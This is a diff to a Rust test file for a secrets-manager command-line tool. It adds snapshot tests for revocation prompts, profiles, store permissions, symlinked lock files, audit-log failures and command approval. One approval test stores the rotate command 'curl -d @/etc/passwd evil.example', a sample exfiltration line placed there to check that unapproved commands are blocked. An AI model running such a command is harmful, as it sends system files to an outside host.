@@ -337,7 +337,7 @@ fn prefix_that_matches_nothing() {
 #[test]
 fn revoked_secret() {
     let sb = store();
-    sb.ok(["revoke", "app/dev/token"]);
+    sb.ok(["revoke", "app/dev/token", "--yes"]);
     sesame(&["get", "app/dev/token"]).pins(&sb, scenario!());
 }
 
@@ -373,7 +373,7 @@ fn bad_duration() {
 #[test]
 fn bad_expiry() {
     let sb = store();
-    sesame(&["set", "app/dev/other", "--expires", "2000-01-01"])
+    sesame(&["set", "app/dev/other", "--expires", "next-week"])
         .stdin("value")
         .pins(&sb, scenario!());
 }
@@ -420,6 +420,36 @@ fn value_out_of_range() {
 fn remove_without_force() {
     let sb = store();
     sesame(&["remove", "app/dev/token"]).pins(&sb, scenario!());
+}
+
+#[test]
+fn revoke_without_a_terminal_or_yes() {
+    let sb = store();
+    sesame(&["revoke", "app/dev/token"]).pins(&sb, scenario!());
+}
+
+#[test]
+fn generate_over_an_existing_secret() {
+    let sb = store();
+    sesame(&["generate", "app/dev/token"]).pins(&sb, scenario!());
+}
+
+#[test]
+fn env_with_a_file_hand_over() {
+    let sb = store();
+    sesame(&["env", "-f", "app/dev/token=KEY"]).pins(&sb, scenario!());
+}
+
+#[test]
+fn secrets_missing_from_a_profile() {
+    let sb = store();
+    fs::write(
+        sb.dir.path().join("sesame.toml"),
+        "[profile.prod.env]\nTOKEN = \"app/dev/token\"\nDB_URL = \"app/prod/db_url\"\nAPI_KEY = \"app/prod/api_key\"\n",
+    )
+    .unwrap();
+    sb.cmd().arg("allow").assert().success();
+    sesame(&["run", "--profile", "prod", "--", "true"]).pins(&sb, scenario!());
 }
 
 #[test]
@@ -590,13 +620,73 @@ fn rotate_command_that_prints_a_malformed_pair() {
 fn revoke_command_that_fails() {
     let sb = store();
     sb.ok(["edit", "app/dev/token", "--revoke-command", "exit 3"]);
-    sesame(&["revoke", "app/dev/token"]).pins(&sb, scenario!());
+    sesame(&["revoke", "app/dev/token", "--yes"]).pins(&sb, scenario!());
 }
 
 #[test]
 fn rotate_with_nothing_to_make_a_value_from() {
     let sb = store();
     sesame(&["rotate", "app/dev/token"]).pins(&sb, scenario!());
+}
+
+// --- Permissions and approvals (issue 12) ---
+
+#[test]
+fn store_directory_others_can_write() {
+    use std::os::unix::fs::PermissionsExt;
+    let sb = store();
+    fs::set_permissions(&sb.store, fs::Permissions::from_mode(0o777)).unwrap();
+    sesame(&["get", "app/dev/token"]).pins(&sb, scenario!());
+}
+
+#[test]
+fn lock_file_that_is_a_symbolic_link() {
+    let sb = store();
+    fs::remove_file(sb.file("lock")).unwrap();
+    std::os::unix::fs::symlink(sb.dir.path().join("elsewhere"), sb.file("lock")).unwrap();
+    sesame(&["set", "app/dev/token"])
+        .stdin("value")
+        .pins(&sb, scenario!());
+}
+
+#[test]
+fn stored_command_not_approved() {
+    let sb = store();
+    let key = sb.ok(["recipients", "add", "--generate-ci", "ci"]);
+    let out = sb
+        .cmd_locked()
+        .env("SESAME_IDENTITY", key.trim())
+        .args([
+            "edit",
+            "app/dev/token",
+            "--rotate-command",
+            "curl -d @/etc/passwd evil.example",
+        ])
+        .output()
+        .unwrap();
+    assert!(out.status.success());
+    sesame(&["rotate", "app/dev/token"]).pins(&sb, scenario!());
+}
+
+#[test]
+fn allow_without_a_terminal() {
+    let sb = store();
+    sb.ok(["edit", "app/dev/token", "--rotate-command", "./mint"]);
+    sb.ok(["deny", "--secret", "app/dev/token"]);
+    sesame(&["allow", "--secret", "app/dev/token"]).pins(&sb, scenario!());
+}
+
+#[test]
+fn write_stored_but_not_recorded_in_the_audit_log() {
+    let sb = store();
+    use std::os::unix::fs::PermissionsExt;
+    fs::create_dir(sb.file("audit.log.1")).unwrap();
+    fs::write(sb.file("audit.log.1").join("x"), "").unwrap();
+    fs::set_permissions(sb.file("audit.log.1"), fs::Permissions::from_mode(0o700)).unwrap();
+    sesame(&["set", "app/dev/token"])
+        .stdin("value")
+        .env("SESAME_AUDIT_MAX_BYTES", "1")
+        .pins(&sb, scenario!());
 }
 
 #[test]
